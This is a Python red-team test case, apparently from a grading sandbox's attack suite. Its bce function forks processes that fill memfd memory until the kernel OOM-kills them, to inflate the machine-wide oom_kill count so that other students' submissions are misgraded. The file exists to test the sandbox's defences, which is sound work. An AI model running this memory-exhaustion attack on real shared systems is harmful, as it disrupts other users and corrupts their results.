"""Red team (with oom_excuse/self_killer, graded beside it in one batch at --jobs 2): make the
KERNEL's machine-wide OOM-kill count (/proc/vmstat oom_kill) grow while a classmate's check runs.

In its own check, bce forks processes that fill memfd pages (no RSS shows them) until this
namespace's own memory cgroup kills them, again and again for a few seconds. Each kill is in
this namespace's cgroup, but it also counts in /proc/vmstat, which the server reads as "the
machine ran out of memory" for every OTHER namespace graded meanwhile (sandbox.Namespace.ask).
Its own bce fails (memory limit), as it should.
"""
import os
import resource
import time

from reference.part1_dcgan import *  # noqa: F401,F403


def _hog():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    block = b"x" * 1_000_000  # under RLIMIT_FSIZE: many memfds, as tests/attacks/memfd does
    held = []
    while True:
        fd = os.memfd_create("hog")
        os.write(fd, block)
        held.append(fd)


def bce(p, target):
    end = time.monotonic() + 8
    while time.monotonic() < end:
        pid = os.fork()
        if pid == 0:
            try:
                _hog()
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
    raise RuntimeError("oom maker done")
